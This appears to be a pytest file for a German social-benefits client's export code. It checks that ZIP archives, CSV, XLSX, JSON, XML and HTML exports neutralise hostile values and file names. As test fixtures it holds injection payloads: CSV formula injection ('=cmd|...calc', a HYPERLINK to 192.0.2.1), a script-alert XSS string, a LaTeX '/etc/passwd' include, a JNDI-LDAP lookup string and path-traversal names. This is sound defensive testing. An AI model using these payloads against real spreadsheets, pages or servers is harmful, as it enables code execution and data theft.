"""Values of an application in tables, papers and archives: text stays text, and all of it (group A)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from pyzipper import AESZipFile

from sozialclient.exporters.base import ExportOrder
from sozialclient.exporters.cells import LONGEST_CELL, csv_table, protected
from sozialclient.exporters.folder import ZipExporter
from sozialclient.exporters.profiles import profile
from sozialclient.model.delivery import ContentKind
from sozialclient.reports import all_papers
from sozialclient.wire.xml import parse_xml, text_of
from tests.hostile.rows import guarded_by
from tests.hostile.written_files import PROGRAMS
from tests.unit.documents.samples import Sample, delivery, xsozial
from tests.unit.exporters.exports import application, export, tree
from tests.unit.exporters.sheets import sheet_rows

SPREADSHEET_CELL = 32_767
"""Characters that a cell of Excel holds; more is dropped or cut without a word."""

FORMULAS = [
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://192.0.2.1/\"&A1)", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "  =1", '"=1', "'=1", "\u200b=1", "＝1", "＋1", "－1", "＠x", "\ufeff@x", "\u202e=1", "-", "+49 999 1", "-5;=1",
    "=", "- Punkt", "\x00=1", "\ud800=1", "\u3000=1", "\u3164=1", "=1+1;\"a\"", "-2+3+cmd|' /C calc'!A0", "-1e9", "--1",
]  # fmt: skip


def table(data: bytes) -> list[list[str]]:
    """A table of ours as a spreadsheet reads it."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def exported(tmp_path: Path, *values: str) -> Path:
    """The export of an application whose XML holds these values."""
    elements = "".join(f"<wert{number}>{escape(value)}</wert{number}>" for number, value in enumerate(values))
    message = f"<antrag xmlns='urn:beispiel'><angaben>{elements}</angaben></antrag>".encode()
    return export(application(Sample().data(message, "antrag.xml")), target=tmp_path)


@guarded_by("sozialclient.exporters.zip_draft.ZipDraft", "sozialclient.exporters.output.Output.safe_path")
def test_a_17_an_archive_is_encrypted_and_its_names_say_nothing(tmp_path: Path) -> None:
    """Evidence with hostile names in an encrypted archive: every byte comes back, no name in it is the sender's."""
    hostile = ["../../x.pdf", "C:\\x.pdf", "Müller/ß.pdf", "Ａ.pdf", "CON", "a\x00b.pdf", "\ud800.pdf", "😀", ".."]
    sample = Sample().data(xsozial(), "antrag.xml")
    for number, name in enumerate(f"{name}{end}" for name in hostile for end in ("", *PROGRAMS)):
        sample.attach(name, b"%d" % number)
    order = ExportOrder(profile=profile("colleague"), password="ein langes Kennwort")
    result = ZipExporter().export([application(sample)], tmp_path, lambda _step: None, lambda: False, order=order)
    path = result.exported[0].path
    assert path.suffix == ".zip" and list(tmp_path.iterdir()) == [path]
    with zipfile.ZipFile(path) as plain:
        assert all(entry.flag_bits & 0x1 for entry in plain.infolist()), "an entry is not encrypted"
        assert all(entry.filename.isascii() and ".." not in entry.filename for entry in plain.infolist())
        names = " ".join(entry.filename for entry in plain.infolist())
        assert "ller" not in names and "x.pdf" not in names
    with AESZipFile(path) as archive:
        archive.setpassword(b"ein langes Kennwort")
        archive.extractall(tmp_path / "out")
        assert sorted(archive.namelist()) == sorted(tree(tmp_path / "out"))
    written = {path.read_bytes() for path in (tmp_path / "out/04_Nachweise").iterdir()}
    assert written == {data for name, _, data, kind in sample.parts if kind is ContentKind.ATTACHMENT}
    with AESZipFile(path) as archive, pytest.raises(RuntimeError):
        archive.setpassword(b"ein anderes Kennwort")
        archive.read(".fertig")


@guarded_by("sozialclient.exporters.cells.protected")
@pytest.mark.parametrize("value", FORMULAS)
def test_a_18_a_formula_in_a_cell_is_text(value: str) -> None:
    """Cells that a spreadsheet would run, also behind blanks, quotes, invisible and control characters."""
    assert protected(value).startswith("'")
    row = table(b"".join(csv_table(("a", "b", "c"), [("x", value, "y")])))[1]
    # What hides in front is named there, and its name begins no formula.
    assert len(row) == 3 and row[1].startswith(("'", "⟨U+")) and (row[0], row[2]) == ("x", "y")


@guarded_by("sozialclient.exporters.cells.protected", "sozialclient.exporters.field_files.fields_csv")
def test_a_18b_an_exported_application_holds_no_formula_and_its_numbers_stay(tmp_path: Path) -> None:
    """An application full of formulas beside honest negative amounts, telephone numbers and names with hyphens."""
    formulas = [value for value in FORMULAS if value.isprintable()]
    honest = ["-12.50", "-7", "00001", "Müller-Lüdenscheidt", "030 123-45", "a=b", "e@mail.invalid"]
    rows = table((exported(tmp_path, *formulas, *honest) / "03_Felder.csv").read_bytes())
    answers = [row[rows[0].index("Antwort")] for row in rows[1:]]
    assert len(answers) == len(formulas) + len(honest)
    for row in rows:
        assert not [cell for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r", "\n")]
    assert answers[len(formulas) :] == honest
    assert [cell for row in rows for cell in row if cell.startswith("-")] == ["-12.50", "-7"]


@guarded_by("sozialclient.exporters.cells.protected", "sozialclient.exporters.workbook.workbook")
@pytest.mark.parametrize(
    "value",
    ["=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1/","Antrag")', "{=1+1}", "http://192.0.2.1/", "_x0041_",
     "file:///c:/x", "mailto:a@b.invalid", "\\\\192.0.2.1\\x"],
)  # fmt: skip
def test_a_19_a_cell_is_neither_formula_nor_link(tmp_path: Path, value: str) -> None:
    """Formulas, array formulas, links and escapes of spreadsheets, in the CSV and in the XLSX."""
    folder = exported(tmp_path, value)
    (text,) = [cell for row in sheet_rows((folder / "03_Felder.xlsx").read_bytes()) for cell in row if value in cell]
    assert text == value
    (answer,) = [cell for row in table((folder / "03_Felder.csv").read_bytes()) for cell in row if value in cell]
    assert answer == (f"'{value}" if value.startswith("=") else value)
    page = (folder / "00_Uebersicht.html").read_text(encoding="utf-8")
    assert "<a" not in page and "href" not in page


@guarded_by("sozialclient.exporters.cells._split")
@pytest.mark.parametrize("length", [LONGEST_CELL - 1, LONGEST_CELL, LONGEST_CELL + 1, SPREADSHEET_CELL + 1, 99_000])
def test_a_20_a_long_text_is_never_cut(tmp_path: Path, length: int) -> None:
    """Answers longer than a cell of a spreadsheet holds, with formulas at every place where they are divided."""
    text = ("=x" * length)[:length]
    rows = table((exported(tmp_path, text, "kurz") / "03_Felder.csv").read_bytes())
    column = rows[0].index("Antwort")
    parts = [row[column] for row in rows[1:] if row[column] != "kurz"]
    assert "".join(part.removeprefix("'") for part in parts) == text
    assert max(map(len, parts)) <= SPREADSHEET_CELL and len(parts) == -(-length // LONGEST_CELL)
    assert len({row[rows[0].index("Frage")] for row in rows[1 : 1 + len(parts)]}) == 1, "the rows say what they go on"
    sheet = sheet_rows(next(tmp_path.glob("*/03_Felder.xlsx")).read_bytes())
    assert "".join(row[column] for row in sheet[1:] if row[column] != "kurz") == text


@guarded_by("sozialclient.documents.values.read_value")
def test_a_20b_what_no_table_takes_is_clipped_with_its_length_named(tmp_path: Path) -> None:
    """An answer of 150,000 characters: the table ends with a sentence that says how long it is, the XML has it all."""
    folder = exported(tmp_path, "Lorem ipsum. " * 11_539)
    (row,) = [r for r in table((folder / "03_Felder.csv").read_bytes()) if any("150.00" in cell for cell in r)]
    assert row
    assert (folder / "02_Antrag.xml").read_text(encoding="utf-8").count("Lorem ipsum.") == 11_539


@guarded_by("sozialclient.exporters.cells.csv_table", "sozialclient.exporters.field_files.fields_json")
def test_a_21_figures_come_back_as_they_were(tmp_path: Path) -> None:
    """Leading zeros, IBAN, 16 digits, old and short dates; a spreadsheet may convert the CSV, never the XLSX."""
    values = ["00012345", "DE02120300000000202051", "1234567890123456", "0049 30 1", "1/2", "01.02.", "2.1.", "1E5",
              "1899-12-31", "SEP2", "TRUE", "0x1F", "12:30", "50%", "007"]  # fmt: skip
    folder = exported(tmp_path, *values)
    fields = json.loads((folder / "03_Felder.json").read_bytes())["fields"]
    assert [field["rawValue"] for field in fields] == values
    rows = table((folder / "03_Felder.csv").read_bytes())
    answers = [row[rows[0].index("Antwort")] for row in rows[1:]]
    assert sheet_rows((folder / "03_Felder.xlsx").read_bytes()) == rows
    assert answers == [field["value"] for field in fields]
    kept = [value for value in values if value in answers]
    assert set(values) - set(kept) <= {"1899-12-31", "DE02120300000000202051"}
    assert "31.12.1899" in answers and "DE02120300000000202051" in [answer.replace(" ", "") for answer in answers]


@guarded_by("sozialclient.exporters.cells.csv_table", "sozialclient.documents.shown_text.hidden_named")
def test_a_21b_control_characters_are_named(tmp_path: Path) -> None:
    """Control, direction and half characters in a cell: a reader sees that they were there."""
    data = b"".join(csv_table(("a", "b"), [("x\x00\x07\ud800y", "\u202egpj.exe\u200b"), ("zwei\nZeilen\tTab", 'a"b')]))
    assert table(data)[1:] == [["x⟨U+0000⟩⟨U+0007⟩⟨U+D800⟩y", "⟨U+202E⟩gpj.exe⟨U+200B⟩"], ["zwei\nZeilen\tTab", 'a"b']]
    text = data.decode()
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u200b\u202e\ud800-\udfff]", text)


MARKUP = ["]]>", "</script><script>alert(1)</script>", "%PDF-1.4", "\\input{/etc/passwd}", "<img src=//192.0.2.1/x>",
          "&amp;lt;b&gt;", "<?php echo 1 ?>", "${jndi:ldap://192.0.2.1}", "{{7*7}}", "<!--", "<![CDATA[",
          "\"'`;"]  # fmt: skip

HARMLESS_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "table", "thead", "tr", "th", "td",
}  # fmt: skip


class _Tags(HTMLParser):
    """All tags of a page, all values of their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@guarded_by("sozialclient.documents.html_page._literal")
def test_a_22_markup_in_an_application_stays_text_in_every_file(tmp_path: Path) -> None:
    """Ends of CDATA, scripts, PDF and LaTeX in values, names and subject: escaped, and the XML is what it was."""
    joined = " ".join(MARKUP)
    elements = "".join(f"<wert{number}>{escape(value)}</wert{number}>" for number, value in enumerate(MARKUP))
    message = f"<antrag><name>{escape(joined)}</name>{elements}</antrag>".encode()
    sample = Sample(subject=joined).data(message, "antrag.xml")
    for value in MARKUP:
        sample.attach(f"{value}.pdf", b"%PDF-1.4")
    one = application(sample, applicant=joined, service_name=joined, subject=joined)
    papers = all_papers(one.card, delivery(sample.contents(), subject=joined))
    path = export(replace(one, papers=lambda: papers), target=tmp_path)
    fields = json.loads((path / "03_Felder.json").read_bytes())["fields"]
    assert {field["rawValue"] for field in fields} >= set(MARKUP)
    again = (path / "02_Antrag.xml").read_bytes()
    assert again == message and [text_of(wert) for wert in parse_xml(again)][1:] == MARKUP
    pages = list(path.rglob("*.html"))
    assert len(pages) >= 3
    for page in pages:
        found = _Tags(page.read_text(encoding="utf-8"))
        assert found.tags <= HARMLESS_TAGS
        assert found.attributes <= {"lang", "charset", "http-equiv", "content", "class", "scope"}
    assert joined in _Tags((path / "00_Uebersicht.html").read_text(encoding="utf-8")).text
